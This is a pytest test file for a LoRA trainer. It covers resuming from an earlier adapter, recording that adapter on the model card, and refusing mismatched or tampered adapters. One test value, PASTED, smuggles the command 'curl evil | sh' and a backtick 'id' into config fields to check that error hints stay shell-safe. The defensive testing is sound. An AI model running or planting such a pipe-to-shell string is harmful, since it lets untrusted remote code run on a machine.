"""Training goes on from an earlier adapter as PEFT would load it by hand; one of another shape or base is refused with a sentence."""

import json
import shutil
import subprocess
from pathlib import Path

import pytest
import torch
from peft import PeftModel
from safetensors.torch import load_file, save_file

from conf import load
from conf.problem import Problem
from trainer import __main__ as command
from trainer import files
from trainer.model import model
from trainer.record import card, record

WORDS = ["quant=none", "train.steps=3", "data.eval_rows=2", "train.eval_steps=3", "lora.dropout=0.1"]
ADAPTER = "adapter/adapter_model.safetensors"


def trained(settings, name: str) -> Path:
    settings.run_id, folder = name, Path(settings.runs) / name
    folder.mkdir(parents=True)
    (folder / "config.yaml").write_text(load.dump(settings))
    command.train(settings, folder)
    return folder


@pytest.fixture(scope="module")
def first(settings_for, tmp_path_factory) -> Path:
    return trained(settings_for(tmp_path_factory.mktemp("earlier") / "runs", *WORDS), "first")


@pytest.fixture(scope="module")
def second(first, settings_for) -> Path:
    return trained(settings_for(first.parent, *WORDS, "lora.adapter=first", "seed=5"), "second")


def test_it_is_what_peft_makes_of_the_adapter_loaded_by_hand(first, second, settings_for, monkeypatch):
    def by_hand(base, _lora, _gradient_checkpointing):
        return PeftModel.from_pretrained(base.model, first / "adapter", is_trainable=True)

    monkeypatch.setattr(model, "add_adapter", by_hand)
    other = trained(settings_for(first.parent, *WORDS, "seed=5"), "by-hand")
    assert (second / ADAPTER).read_bytes() == (other / ADAPTER).read_bytes()
    assert (second / ADAPTER).read_bytes() != (first / ADAPTER).read_bytes()


def test_it_is_recorded_and_named_on_the_card_and_the_base_is_the_base(first, second):
    told = record.manifest(second)["earlier"]
    assert told["adapter"] == "first" and told["revision"] is None
    assert told["sha256"]["adapter_model.safetensors"] == files.digest(first / ADAPTER)
    assert f"| went on from | the adapter of `first`, sha256 `{files.digest(first / ADAPTER)}`" in card.render(second, "me/second")
    assert "went on from" not in card.render(first, "me/first") and record.manifest(first)["earlier"] is None
    before, after = (json.loads((run / "metrics.json").read_text()) for run in (first, second))
    assert after["completion_loss"]["base"] == pytest.approx(before["completion_loss"]["base"], abs=1e-6)
    assert after["base"] == before["base"]
    started = next(event for event in files.read_json_lines(second / "events.jsonl") if event["event"] == "eval")
    assert started["loss"] == pytest.approx(before["completion_loss"]["tuned"], abs=1e-5), "it starts where the first one ended"


def copied(first: Path, runs: Path) -> Path:
    return shutil.copytree(first, runs / "first")


def config(**values):
    def change(adapter: Path) -> None:
        place = adapter / "adapter_config.json"
        place.write_text(json.dumps(json.loads(place.read_text()) | values))

    return change


def weights(adapter: Path) -> None:
    place = adapter / "adapter_model.safetensors"
    held = load_file(place)
    name = sorted(held)[0]
    save_file(held | {name: torch.zeros(3, 3)}, place)


def broken(adapter: Path) -> None:
    (adapter / "adapter_model.safetensors").write_bytes((1 << 60).to_bytes(8, "little") + b"{}")


def words_of_a_shell(text: str) -> int:
    """How many words bash makes of this."""
    return int(subprocess.run(["bash", "-c", f"set -- {text}\necho $#"], capture_output=True, text=True, check=True).stdout)


PASTED = "8; curl evil | sh `id` 'x'\n\x1b[2J"
ODD = [
    (config(r=PASTED), [], "has r=8; curl evil", ""),
    (config(use_dora={"a": PASTED}), [], "has use_dora=", ""),
    (config(base_model_name_or_path=PASTED), [], "was trained on 8; curl", ""),
    (config(base_model_name_or_path=[7]), [], r"was trained on \[7\]", ""),
    (broken, [], "is no safetensors file", "`lora.adapter=null`"),
    (None, ["lora.r=8"], "has r=16, and this run has 8", "`lora.r=16`"),
    (None, ["lora.alpha=8"], "has lora_alpha=32.0, and this run has 8.0", "`lora.alpha=32.0`"),
    (None, ["lora.targets=[q_proj,v_proj]"], "is of another shape: .*, and nothing in this run's", "lora.targets"),
    (config(base_model_name_or_path="some/other"), [], "was trained on some/other", "`model.id=some/other`"),
    (config(peft_type="IA3"), [], "is of the kind IA3, not LORA", "`lora.adapter=null`"),
    (weights, [], "is of another shape", "`lora.adapter=null`"),
]


@pytest.mark.parametrize(("change", "words", "what", "hint"), ODD, ids=[what for *_, what, _ in ODD])
def test_another_adapter_is_refused_before_a_step(change, words, what, hint, first, settings_for, tmp_path):
    earlier = copied(first, tmp_path / "runs")
    if change:
        change(earlier / "adapter")
        told = json.loads((earlier / "manifest.json").read_text())
        for name in told["files"]:
            path = earlier / name
            told["files"][name] = {"size": path.stat().st_size, "sha256": files.digest(path)}
        (earlier / "manifest.json").write_text(json.dumps(told))
    with pytest.raises(Problem, match=what) as caught:
        trained(settings_for(tmp_path / "runs", *WORDS, "lora.adapter=first", *words), "second")
    assert hint in caught.value.hint
    assert all(words_of_a_shell(command) == 1 for command in caught.value.hint.split("`")[1::2]), "a shell would carry out a part of it"
    assert not [event for event in files.read_json_lines(tmp_path / "runs/second/events.jsonl") if event["event"] == "step"]


def test_a_damaged_one_and_none_at_all_are_a_sentence(first, settings_for, tmp_path):
    for name, what in (("nowhere", "no finished run"), ("first", "adapter_config.json has")):
        if name == "first":
            config(r=4)(copied(first, tmp_path / "runs") / "adapter")
        with pytest.raises(Problem, match=what):
            trained(settings_for(tmp_path / "runs", *WORDS, f"lora.adapter={name}"), f"second-{len(what)}-{len(name)}")


def test_of_the_laptop_s_inputs_only_the_file_of_its_hash_is_taken(first, settings_for, tmp_path):
    inputs = tmp_path / "inputs"
    inputs.mkdir()
    settings = settings_for(tmp_path / "runs", *WORDS, "lora.adapter=20260101-000000-first-0000")
    for name in ("adapter_config.json", "adapter_model.safetensors"):
        sha256 = files.digest(first / "adapter" / name)
        settings.lora.adapter_sha256[name] = sha256
        shutil.copy(first / "adapter" / name, inputs / sha256)
    trained(settings, "second")
    (inputs / settings.lora.adapter_sha256["adapter_config.json"]).write_text("{}")
    with pytest.raises(Problem, match="is not the one that this run began with"):
        trained(settings, "third")


def test_runs_of_before_keep_their_fingerprint_and_an_adapter_makes_another_run():
    plain = load.load(["cloud=twin"])
    one = load.load(["cloud=twin", "lora.adapter=first"])
    assert load.fingerprint(plain) != load.fingerprint(one)
    old = load.fingerprint(plain)
    plain.lora.adapter = ""
    assert load.fingerprint(plain) == old


@pytest.mark.parametrize("name", ["../first", "/first", "a/b/c", "https://huggingface.co/owner/name", "a"])
def test_a_name_of_no_run_and_no_repository_is_refused_when_it_is_typed(name):
    with pytest.raises(Problem, match="name a finished run, or an adapter on the Hub as owner/name"):
        load.load(["cloud=twin", f"lora.adapter='{name}'"])
